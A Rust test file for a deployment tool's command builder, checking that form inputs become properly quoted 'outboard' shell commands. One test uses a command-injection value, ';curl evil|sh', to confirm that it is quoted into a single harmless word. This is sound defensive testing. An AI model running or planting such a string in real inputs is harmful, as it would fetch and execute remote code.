//! What a form asks is told as what somebody would type.

use super::*;

#[test]
fn what_is_searched_on_a_page_is_searched_in_the_archive_by_the_command_too() {
    assert_eq!(
        logs("shop", "qa", &[], ("1h", None), "", false),
        "outboard -n shop logs qa --since 1h --query '*'"
    );
    assert_eq!(logs("shop", "qa", &[], ("1h", None), "", true), "outboard -n shop logs qa -f --since 1h");
    let until = Some("2026-11-25T11:00:00Z");
    assert_eq!(
        logs("shop", "qa", &[], ("2026-11-25T10:00:00Z", until), "x", false),
        "outboard -n shop logs qa --since 2026-11-25T10:00:00Z --until 2026-11-25T11:00:00Z --query x"
    );
}

#[test]
fn whatever_a_query_has_in_it_is_one_word() {
    let line = logs("shop", "qa", &[], ("15m", None), "\0;curl evil|sh\u{1b}[2J", false);
    assert_eq!(line, "outboard -n shop logs qa --since 15m --query ';curl evil|sh[2J'");
}

#[test]
fn every_change_has_a_command() {
    let versions = BTreeMap::from([("web".to_owned(), "2".to_owned())]);
    let environment = || "qa".to_owned();
    let asks = [
        Ask::Create {
            environment: environment(),
            project: Some("shop".into()),
            class: Some("qa".into()),
            from: None,
            data: Some("prod".into()),
            backup: None,
            masks: MaskChoice::Project,
            versions: versions.clone(),
            settings: BTreeMap::from([("web.scale.min".to_owned(), "2".to_owned())]),
            revision: Some("p-0123456789".into()),
        },
        Ask::Create {
            environment: environment(),
            project: None,
            class: None,
            from: Some("prod".into()),
            data: Some("prod".into()),
            backup: None,
            masks: MaskChoice::Project,
            versions: versions.clone(),
            settings: BTreeMap::new(),
            revision: None,
        },
        Ask::Set {
            environment: environment(),
            versions,
            settings: BTreeMap::from([
                ("web.scale.min".to_owned(), "2".to_owned()),
                ("web.env.API_TOKEN".to_owned(), "hunter2".to_owned()),
            ]),
            unset: vec!["web.resources".into()],
        },
        Ask::Update { environment: environment(), revision: None },
        Ask::Restart { environment: environment(), components: vec!["web".into(); 3] },
        Ask::Rollback { environment: environment(), to: Some(3) },
        Ask::Promote { environment: environment(), from: "dev".into(), revision: None },
        Ask::Keep { environment: environment(), thaw: false },
        Ask::Keep { environment: environment(), thaw: true },
        Ask::Restore { environment: environment(), revision: Some(3), kept: None, without_data: true },
    ];
    assert_eq!(
        asks.map(|ask| of("shop", &ask)),
        [
            "outboard -n shop env create qa web.scale.min=2 --project shop --revision p-0123456789 --class qa --data prod --set web=2",
            "outboard -n shop env clone prod qa --data --set web=2",
            "outboard -n shop env set qa 'web.env.API_TOKEN=…' web.scale.min=2 --set web=2 --unset web.resources",
            "outboard -n shop env update qa",
            "outboard -n shop env restart qa web",
            "outboard -n shop env rollback qa --to 3",
            "outboard -n shop env promote dev qa",
            "outboard -n shop env keep qa",
            "outboard -n shop env thaw qa --keep",
            "outboard -n shop env restore qa --revision 3 --without-data",
        ]
    );
}

#[test]
fn a_new_environment_may_have_the_data_of_another_than_it_starts_from() {
    let ask = |more: &str| {
        let text = format!(r#"{{"action": "create", "environment": "qa", {more}}}"#);
        of("shop", &serde_json::from_str(&text).unwrap())
    };
    assert_eq!(
        ask(r#""from": "prod", "data": "golden", "masks": "none""#),
        "outboard -n shop env clone prod qa --data=golden --mask none"
    );
    assert_eq!(
        ask(r#""from": "prod", "backup": "golden-1""#),
        "outboard -n shop env clone prod qa --backup golden-1"
    );
    assert_eq!(ask(r#""backup": "golden/latest""#), "outboard -n shop env create qa --backup golden/latest");
}

#[test]
fn what_a_shell_would_read_otherwise_is_quoted() {
    assert_eq!(
        logs("shop", "qa", &["web".into()], ("15m", None), "level:>=warn it's", true),
        r#"outboard -n shop logs qa web -f --since 15m --query "level:>=warn it's""#
    );
}

#[test]
fn lists_are_of_where_somebody_may_look() {
    let of =
        |places: &[&str]| list(&places.iter().map(|place| Some((*place).to_owned())).collect::<Vec<_>>());
    assert_eq!(list(&[None]).as_deref(), Some("outboard env list -A"));
    assert_eq!(of(&["shop"]).as_deref(), Some("outboard -n shop env list"));
    assert_eq!(
        of(&["shop", "team"]).as_deref(),
        Some("outboard -n shop env list; outboard -n team env list")
    );
    assert_eq!((of(&[]), of(&["a"; 9])), (None, None));
}

#[test]
fn several_environments_are_a_loop_in_each_namespace() {
    let place =
        |namespace: &str, name: &str| Place { namespace: namespace.to_owned(), name: name.to_owned() };
    let places = [place("shop", "qa"), place("team", "dev"), place("shop", "qa-2")];
    assert_eq!(
        several(Several::Restart, &places),
        "for name in qa qa-2; do outboard -n shop env restart $name; done; \
             for name in dev; do outboard -n team env restart $name; done"
    );
}

#[test]
fn what_programs_ask_for_without_a_plan_has_a_command_too() {
    let host = hostname::Wanted {
        host: "www.example.com".into(),
        environment: "qa".into(),
        route: Some("web".into()),
        weight: Some(10),
        health_check: None,
    };
    let preview_of = preview::Wanted {
        name: api::names::EnvironmentName::parse("pr-7").unwrap(),
        subject: "acme/shop#7".parse().unwrap(),
        project: None,
        class: None,
        like: None,
        versions: vec!["web=1".parse().unwrap()],
    };
    assert_eq!(
        [
            freeze("shop", "qa", "2h", "I look at it"),
            thaw("shop", "qa"),
            claim("shop", &host),
            release("shop", "www.example.com"),
            applied("shop", "shop", None),
            applied("shop", "shop", Some("web")),
            preview("shop", &preview_of),
        ],
        [
            "outboard -n shop env freeze qa --for 2h --reason 'I look at it'",
            "outboard -n shop env thaw qa --heal",
            "outboard -n shop hostname claim www.example.com --env qa --route web --weight 10",
            "outboard -n shop hostname release www.example.com",
            "outboard -n shop project apply -f -",
            "outboard -n shop project apply -f - --component web --project shop",
            "outboard -n shop preview up --repo acme/shop --pr 7 --name pr-7 --set web=1",
        ]
    );
}
